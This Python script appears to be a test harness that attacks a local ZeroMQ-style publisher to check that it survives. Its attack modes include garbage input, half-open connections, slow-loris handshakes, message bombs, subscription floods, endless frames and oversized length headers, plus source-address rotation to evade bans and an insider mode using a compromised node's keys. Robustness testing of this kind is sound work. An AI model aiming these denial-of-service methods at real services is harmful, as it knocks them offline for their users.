"""Attacks a publisher, until it is killed.

    attacker.py KIND EVENTS_PORT SYNC_PORT [KEYS NODE]

It comes from an address of its own of the loopback, or from so many as the variable ADDRESSES says.

With the folder of the publisher's key and of the pair of a node that was taken over, the attack is that
node's.

Says "attacking" once it has begun, and then now and then how much it has done, and how often it was cut off.
"""

import os
import random
import socket
import struct
import sys
import time

import curve

MORE, LONG = 1, 2


def greeting(mechanism=b"NULL"):
    return (bytes([0xFF]) + bytes(8) + bytes([0x7F, 3, 0]) + mechanism).ljust(64, b"\0")


# Not those of honest agents on the same machine: who has no keys is kept out by its address. Once it is,
# the next is tried.
ADDRESSES = [
    f"127.{random.randrange(1, 255)}.{random.randrange(256)}.{random.randrange(1, 255)}"
    for _ in range(int(os.environ.get("ADDRESSES", 1)))
]


def kept_out():
    ADDRESSES.append(ADDRESSES.pop(0))


def connect(port):
    stream = socket.create_connection(("127.0.0.1", port), 0.2, (ADDRESSES[0], 0))
    stream.settimeout(2)
    return stream


def handshake(port, kind):
    stream = connect(port)
    stream.sendall(greeting())
    stream.recv(64, socket.MSG_WAITALL)
    ready = b"\x05READY\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind
    stream.sendall(bytes([4, len(ready)]) + ready)
    head = stream.recv(2, socket.MSG_WAITALL)
    if len(head) < 2:
        raise ConnectionError("it is not let in")
    stream.recv(head[1], socket.MSG_WAITALL)
    return stream


def frame(flags, body):
    return bytes([flags | LONG]) + struct.pack(">Q", len(body)) + body


class Attack:
    def __init__(self, events, sync, taken):
        # The folder of keys and the node's name, or nothing.
        self.taken = taken
        self.ports = [(events, b"SUB"), (sync, b"DEALER")]
        self.done = 0
        self.cut = 0
        self.told = 0

    def tell(self):
        self.done += 1
        if time.monotonic() - self.told > 0.5:
            print(f"attacking {self.done} {self.cut}", flush=True)
            self.told = time.monotonic()

    def port(self):
        return random.choice(self.ports)

    def until_cut(self, stream, pieces):
        try:
            for piece in pieces:
                stream.sendall(piece)
                self.tell()
        except OSError:
            self.cut += 1
        stream.close()

    def admitted(self, port, kind):
        """A connection on which messages may be sent, and how they are written."""
        if not self.taken:
            return handshake(port, kind), frame
        client = curve.Client(port, kind, *self.taken, ADDRESSES[0])
        client.stream.settimeout(2)
        return client.stream, client.frame

    def garbage(self):
        start = random.choice([b"", b"\xff", greeting(), greeting(b"CURVE")])
        self.until_cut(connect(self.port()[0]), [start + os.urandom(65536)])

    def half_open(self):
        streams = []
        for _ in range(500):
            stream = connect(self.port()[0])
            stream.sendall(greeting()[: random.randrange(64)])
            streams.append(stream)
            self.tell()
        time.sleep(1)

    def slow_loris(self):
        # So slow that time is up before it is at the end, and without a fault until then.
        mechanism, command = (b"CURVE", b"\x05HELLO") if self.taken else (b"NULL", b"\x05READY")
        handshake = greeting(mechanism) + bytes([4, 200]) + command + bytes(194)
        streams = [connect(self.port()[0]) for _ in range(100)]
        for byte in handshake:
            for stream in list(streams):
                try:
                    stream.sendall(bytes([byte]))
                except OSError:
                    streams.remove(stream)
                    self.cut += 1
            self.tell()
            time.sleep(0.05)

    def bombs(self):
        long = b"\x01" + b"x" * (1 << 20)
        many = (b"\x01" + os.urandom(random.choice([16, 36, 240])) for _ in range(100_000))
        for messages in [long], many:
            stream, written = self.admitted(*self.ports[0])
            self.until_cut(stream, (written(0, message) for message in messages))

    def flood(self):
        asked = b"\x01\x03" + bytes(8) + b"\x02t1\0"
        stream, written = self.admitted(*self.ports[1])
        some = lambda: b"".join(written(0, asked if n % 10 else os.urandom(50)) for n in range(20))
        self.until_cut(stream, (some() for _ in range(500)))

    def endless(self):
        stream, written = self.admitted(*self.port())
        body = bytes(random.choice([0, 900]))
        some = lambda: b"".join(written(MORE, body) for _ in range(64))
        self.until_cut(stream, (some() for _ in range(10_000)))

    def oversize(self):
        stream, _ = self.admitted(*self.port())
        length = random.choice([4 << 20, 1 << 32, 1 << 63, (1 << 64) - 1])
        stream.sendall(bytes([LONG]) + struct.pack(">Q", length))
        self.until_cut(stream, (bytes(65536) for _ in range(1_000)))


def main():
    kind, events, sync = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    attack = Attack(events, sync, sys.argv[4:6])
    while True:
        try:
            getattr(attack, kind)()
        except OSError:
            # Cut off before it has begun, or not let in; again.
            kept_out()
            attack.tell()
            time.sleep(0.01)


main()
